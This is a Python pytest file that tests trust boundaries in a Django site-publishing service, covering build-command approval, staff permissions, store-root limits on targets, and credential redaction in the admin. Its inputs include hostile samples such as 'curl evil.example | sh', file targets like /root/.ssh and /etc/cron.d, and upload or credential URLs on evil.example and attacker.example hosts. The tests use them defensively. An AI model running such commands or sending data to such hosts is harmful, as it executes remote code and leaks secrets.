"""Trust between tenants and staff: each attack as a user or a staff member would try it.

Owners act on what is theirs; staff act through Django permissions, never through the staff
flag alone; a build command approved for one repository never runs another's code; file://
targets stay under the operator's store roots; a publishing runs what was asked for when it
was initiated; the admin never shows the credentials inside a URL.
"""

from __future__ import annotations

from typing import Any

import pytest
from rest_framework.test import APIClient

from publishing.exceptions import PermanentJobError
from publishing.models import Project, Publishing
from publishing.services.publishings import publishing_initiate, publishing_retry
from tests.factories import ProjectFactory, PublishingFactory, UserFactory, grant
from tests.fakes import ScriptedPipeline
from tests.support.stub_broker import drain

APPROVED = {
    "repository_url": "https://git.example.com/acme/site.git",
    "ref": "main",
    "build_command": "sh build.sh",
}


def client_as(user: Any) -> APIClient:
    client = APIClient()
    client.force_authenticate(user)
    return client


def error_fields(response: Any) -> dict[str, Any]:
    assert response.status_code == 400, response.content
    body = response.json()
    assert body["code"] == "VALIDATION_ERROR"
    errors: dict[str, Any] = body["errors"]
    return errors


# --- A build command is bound to the code it was approved for ------------------------------


@pytest.fixture
def approved(user, settings) -> Project:
    """Alice's project, whose build command a staff member with the right approved."""
    settings.PUBLISHING_ALLOW_USER_BUILD_COMMANDS = False
    return ProjectFactory.create(owner=user, **APPROVED)


@pytest.mark.django_db
@pytest.mark.parametrize(
    "change",
    [
        {"repository_url": "https://git.example.com/alice/anything.git"},
        {"ref": "my-branch"},
        {"repository_url": "https://git.example.com/alice/anything.git", "build_command": "sh build.sh"},
    ],
    ids=["repository", "ref", "repository, command sent unchanged"],
)
def test_an_owner_cannot_point_an_approved_build_command_at_other_code(approved, user, change) -> None:
    # When alice changes what code the approved command runs
    response = client_as(user).patch(f"/api/v1/projects/{approved.pk}/", change, format="json")

    # Then it is refused, the answer says why and how to proceed, and nothing changed
    errors = error_fields(response)
    field = next(iter(set(change) - {"build_command"}))
    assert "approved" in errors[field][0]
    assert '"build_command": ""' in errors[field][0]
    approved.refresh_from_db()
    assert {key: getattr(approved, key) for key in APPROVED} == APPROVED


@pytest.mark.django_db
@pytest.mark.parametrize("command", ["curl evil.example | sh", "sh build.sh && sh other.sh"])
def test_an_owner_without_the_right_cannot_change_the_build_command_of_a_project(
    approved, user, command: str
) -> None:
    # When alice, no staff and without the right to set build commands, changes her project's command
    response = client_as(user).patch(
        f"/api/v1/projects/{approved.pk}/", {"build_command": command}, format="json"
    )

    # Then it is refused, naming the right it needs, and the approved command stays
    assert "permission to set build commands" in error_fields(response)["build_command"][0]
    approved.refresh_from_db()
    assert {key: getattr(approved, key) for key in APPROVED} == APPROVED


@pytest.mark.django_db
def test_an_owner_may_change_the_repository_by_clearing_the_build_command(approved, user) -> None:
    # When alice clears the command with the change, as the refusal says
    response = client_as(user).patch(
        f"/api/v1/projects/{approved.pk}/",
        {"repository_url": "https://git.example.com/alice/other.git", "build_command": ""},
        format="json",
    )

    # Then the change is made and the project builds nothing
    assert response.status_code == 200, response.content
    assert response.json()["build_command"] == ""
    approved.refresh_from_db()
    assert (approved.repository_url, approved.build_command) == (
        "https://git.example.com/alice/other.git",
        "",
    )


@pytest.mark.django_db
def test_an_owner_may_change_what_does_not_change_the_code(approved, user) -> None:
    response = client_as(user).patch(
        f"/api/v1/projects/{approved.pk}/", {"name": "Renamed", "artifact_path": "dist"}, format="json"
    )
    assert response.status_code == 200, response.content
    approved.refresh_from_db()
    assert approved.build_command == "sh build.sh"


@pytest.mark.django_db
def test_the_right_to_set_build_commands_may_change_the_code_of_an_approved_command(
    approved, operator
) -> None:
    response = client_as(operator).patch(
        f"/api/v1/projects/{approved.pk}/", {"ref": "release"}, format="json"
    )
    assert response.status_code == 200, response.content
    approved.refresh_from_db()
    assert (approved.ref, approved.build_command) == ("release", "sh build.sh")


@pytest.mark.django_db
def test_user_build_commands_allowed_lift_the_binding(approved, user, settings) -> None:
    settings.PUBLISHING_ALLOW_USER_BUILD_COMMANDS = True
    response = client_as(user).patch(f"/api/v1/projects/{approved.pk}/", {"ref": "dev"}, format="json")
    assert response.status_code == 200, response.content


# --- Staff rights follow permissions -------------------------------------------------------


@pytest.mark.django_db
def test_staff_who_may_only_view_publishings_cannot_touch_a_build_command(approved, other_user) -> None:
    # Given a staff member with only "view publishing"
    staff = grant(UserFactory.create(username="support", is_staff=True), "view_publishing")

    # When they try to change another user's build command
    response = client_as(staff).patch(
        f"/api/v1/projects/{approved.pk}/", {"build_command": "curl evil.example | sh"}, format="json"
    )

    # Then they do not even see the project, and the command is unchanged
    assert response.status_code == 404
    approved.refresh_from_db()
    assert approved.build_command == "sh build.sh"


@pytest.mark.django_db
def test_staff_who_may_view_projects_cannot_change_or_delete_them(approved, viewer) -> None:
    client = client_as(viewer)
    assert client.get(f"/api/v1/projects/{approved.pk}/").status_code == 200
    for response in (
        client.patch(f"/api/v1/projects/{approved.pk}/", {"build_command": "sh evil.sh"}, format="json"),
        client.delete(f"/api/v1/projects/{approved.pk}/"),
    ):
        assert response.status_code == 403, response.content
        assert response.json()["code"] == "PERMISSION_DENIED"
        assert "permission" in response.json()["detail"]
    approved.refresh_from_db()
    assert approved.build_command == "sh build.sh"


@pytest.mark.django_db
def test_staff_who_may_change_projects_still_need_the_right_to_set_build_commands(approved) -> None:
    editor = grant(UserFactory.create(username="editor", is_staff=True), "view_project", "change_project")
    client = client_as(editor)

    # A build command is refused; other settings are changed
    refused = client.patch(f"/api/v1/projects/{approved.pk}/", {"build_command": "sh evil.sh"}, format="json")
    assert "build_command" in error_fields(refused)
    assert (
        client.patch(f"/api/v1/projects/{approved.pk}/", {"name": "Site"}, format="json").status_code == 200
    )
    approved.refresh_from_db()
    assert approved.build_command == "sh build.sh"


# --- file:// targets only under the store roots --------------------------------------------


@pytest.mark.django_db
@pytest.mark.parametrize("target", ["file:///root/.ssh", "file:///etc/cron.d", "file:///srv/store-other"])
def test_a_file_target_outside_the_store_roots_is_refused_at_save(api, settings, target) -> None:
    settings.PUBLISHING_FILE_STORE_ROOTS = ["/srv/store"]
    response = api.post(
        "/api/v1/projects/",
        {"name": "Site", "repository_url": "https://git.example.com/a.git", "target_url": target},
        format="json",
    )
    assert "under /srv/store" in error_fields(response)["target_url"][0]
    assert not Project.objects.exists()


@pytest.mark.django_db
def test_no_store_roots_means_no_file_targets(api, settings) -> None:
    settings.PUBLISHING_FILE_STORE_ROOTS = []
    response = api.post(
        "/api/v1/projects/",
        {
            "name": "Site",
            "repository_url": "https://git.example.com/a.git",
            "target_url": "file:///srv/store",
        },
        format="json",
    )
    assert "PUBLISHING_FILE_STORE_ROOTS" in error_fields(response)["target_url"][0]


# --- s3:// targets only under the S3 store roots ------------------------------------------


def _create_project(api, target: str):
    return api.post(
        "/api/v1/projects/",
        {"name": "Site", "repository_url": "https://git.example.com/a.git", "target_url": target},
        format="json",
    )


@pytest.mark.django_db
def test_an_s3_target_under_the_roots_is_accepted_at_save(api, settings) -> None:
    # Given a bucket the operator allows
    settings.PUBLISHING_S3_STORE_ROOTS = ["s3://artifacts/sites"]

    # When / Then a project publishing into it is saved, the registry judging it without the network
    response = _create_project(api, "s3://artifacts/sites/team-a")
    assert response.status_code == 201, response.json()
    assert Project.objects.get().target_url == "s3://artifacts/sites/team-a"


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("roots", "target", "says"),
    [
        ([], "s3://artifacts/sites", "PUBLISHING_S3_STORE_ROOTS"),
        (["s3://artifacts/sites"], "s3://backups/db", "under s3://artifacts/sites"),
        (["s3://artifacts/sites"], "s3://artifacts/other", "under s3://artifacts/sites"),
        (["s3://artifacts"], "s3://key:secret@artifacts/sites", "no credentials"),
    ],
)
def test_an_s3_target_outside_the_roots_is_refused_at_save(api, settings, roots, target, says) -> None:
    # Given
    settings.PUBLISHING_S3_STORE_ROOTS = roots

    # When
    response = _create_project(api, target)

    # Then
    assert says in error_fields(response)["target_url"][0]
    assert not Project.objects.exists()


# --- A publishing runs with the settings it was initiated with ------------------------------


@pytest.mark.django_db(transaction=True)
def test_a_change_to_the_project_after_initiate_never_reaches_that_publishing(
    stub_broker, worker, operator
) -> None:
    # Given a queued publishing of alice's project
    alice = UserFactory.create(username="alice")
    project = ProjectFactory.create(owner=alice, **APPROVED, artifact_path="dist")
    publishing = publishing_initiate(user=alice, project_id=project.pk)
    ScriptedPipeline.reset(PermanentJobError("the store said no", code="TARGET_REJECTED"))

    # When everything that decides what runs and where it goes is changed before it runs
    changed = {
        "repository_url": "https://git.example.com/mallory/evil.git",
        "ref": "evil",
        "build_command": "sh evil.sh",
        "artifact_path": "secrets",
        "target_url": "https://evil.example.com/upload",
    }
    Project.objects.filter(pk=project.pk).update(**changed)
    drain(stub_broker, worker)

    # Then its run used the settings of when it was initiated
    publishing.refresh_from_db()
    assert publishing.status == "failed"
    expected = {**APPROVED, "artifact_path": "dist", "target_url": project.target_url}
    assert [_settings_of(job) for job in ScriptedPipeline.jobs] == [expected]

    # And so does its retry
    publishing_retry(publishing=publishing, by=alice)
    drain(stub_broker, worker)
    publishing.refresh_from_db()
    assert publishing.status == "published"
    assert [_settings_of(job) for job in ScriptedPipeline.jobs] == [expected, expected]


def _settings_of(job: Any) -> dict[str, str]:
    return {
        key: getattr(job, key)
        for key in ("repository_url", "ref", "build_command", "artifact_path", "target_url")
    }


@pytest.mark.django_db
def test_a_publishing_shows_the_settings_it_was_initiated_with(stub_broker, user) -> None:
    # Given a publishing of a project whose repository URL carries a token
    project = ProjectFactory.create(
        owner=user, **{**APPROVED, "repository_url": f"https://bot:{TOKEN}@git.example.com/acme/site.git"}
    )
    publishing = publishing_initiate(user=user, project_id=project.pk)

    # When the project changes afterwards
    Project.objects.filter(pk=project.pk).update(ref="other", build_command="")

    # Then the publishing's page says what it runs with, the token hidden
    shown = client_as(user).get(f"/api/v1/publishing/{publishing.pk}").json()["project_settings"]
    assert shown == {
        "repository_url": "https://***@git.example.com/acme/site.git",
        "ref": "main",
        "build_command": "sh build.sh",
        "artifact_path": project.artifact_path,
        "target_url": project.target_url,
    }
    stored = Publishing.objects.get(pk=publishing.pk)
    assert stored.repository_url == f"https://bot:{TOKEN}@git.example.com/acme/site.git"


# --- The admin never shows credentials inside URLs ------------------------------------------

TOKEN = "ghp_s3cr3tT0ken"


@pytest.fixture
def credentialed() -> Project:
    return ProjectFactory.create(
        repository_url=f"https://deploy:{TOKEN}@git.example.com/acme/site.git",
        target_url=f"https://uploader:{TOKEN}@store.example.com/upload",
    )


def _form(project: Project, **fields: Any) -> dict[str, Any]:
    return {
        "owner": project.owner_id,
        "name": project.name,
        "slug": project.slug,
        "repository_url": "https://***@git.example.com/acme/site.git",
        "ref": project.ref,
        "artifact_path": project.artifact_path,
        "target_url": "https://***@store.example.com/upload",
        **fields,
    }


@pytest.mark.django_db
def test_the_admin_pages_show_urls_with_their_credentials_redacted(admin_client_, credentialed) -> None:
    publishing = PublishingFactory.create(project=credentialed, failed=True)
    for page in (
        "/admin/publishing/project/",
        f"/admin/publishing/project/{credentialed.pk}/change/",
        f"/admin/publishing/publishing/{publishing.pk}/change/",
    ):
        html = admin_client_.get(page).content.decode()
        assert "git.example.com/acme/site.git" in html
        assert TOKEN not in html, page
        assert "deploy:" not in html, page
        assert "***@git.example.com" in html


@pytest.mark.django_db
def test_the_admin_keeps_stored_credentials_when_a_url_is_saved_as_shown_or_edited(
    admin_client_, credentialed
) -> None:
    change = f"/admin/publishing/project/{credentialed.pk}/change/"

    # When saved as shown
    assert admin_client_.post(change, _form(credentialed)).status_code == 302
    credentialed.refresh_from_db()
    assert credentialed.repository_url == f"https://deploy:{TOKEN}@git.example.com/acme/site.git"

    # When the path is edited around the stars
    edited = _form(credentialed, repository_url="https://***@git.example.com/acme/new.git")
    assert admin_client_.post(change, edited).status_code == 302
    credentialed.refresh_from_db()
    assert credentialed.repository_url == f"https://deploy:{TOKEN}@git.example.com/acme/new.git"
    assert credentialed.target_url == f"https://uploader:{TOKEN}@store.example.com/upload"

    # When they are replaced, the new ones are kept
    replaced = _form(credentialed, repository_url="https://bot:new-token@git.example.com/acme/new.git")
    assert admin_client_.post(change, replaced).status_code == 302
    credentialed.refresh_from_db()
    assert credentialed.repository_url == "https://bot:new-token@git.example.com/acme/new.git"


@pytest.mark.django_db
def test_stored_credentials_never_follow_a_url_to_another_host(admin_client_, credentialed, user) -> None:
    # When the admin points the URL elsewhere and keeps the stars
    change = f"/admin/publishing/project/{credentialed.pk}/change/"
    moved = _form(credentialed, repository_url="https://***@attacker.example.com/acme/site.git")
    response = admin_client_.post(change, moved)

    # Then the form says so and nothing is saved
    assert response.status_code == 200
    assert "type them again" in response.content.decode()
    credentialed.refresh_from_db()
    assert credentialed.repository_url == f"https://deploy:{TOKEN}@git.example.com/acme/site.git"

    # And the API refuses the same (its owner asking)
    api = client_as(credentialed.owner)
    answer = api.patch(
        f"/api/v1/projects/{credentialed.pk}/",
        {"target_url": "https://***@attacker.example.com/upload"},
        format="json",
    )
    assert "type them again" in error_fields(answer)["target_url"][0]


@pytest.mark.django_db
def test_stars_for_credentials_that_were_never_stored_are_refused(user) -> None:
    # Given a project whose target URL carries no credentials
    project = ProjectFactory.create(owner=user, target_url="https://store.example.com/upload")

    # When its owner sends the URL with stars, as if some were stored
    stars = {"target_url": "https://***@store.example.com/upload"}
    answer = client_as(user).patch(f"/api/v1/projects/{project.pk}/", stars, format="json")

    # Then the field says to type them, and the stored URL is unchanged
    assert error_fields(answer)["target_url"] == [
        "*** stands for stored credentials, and there are none: type them."
    ]
    project.refresh_from_db()
    assert project.target_url == "https://store.example.com/upload"
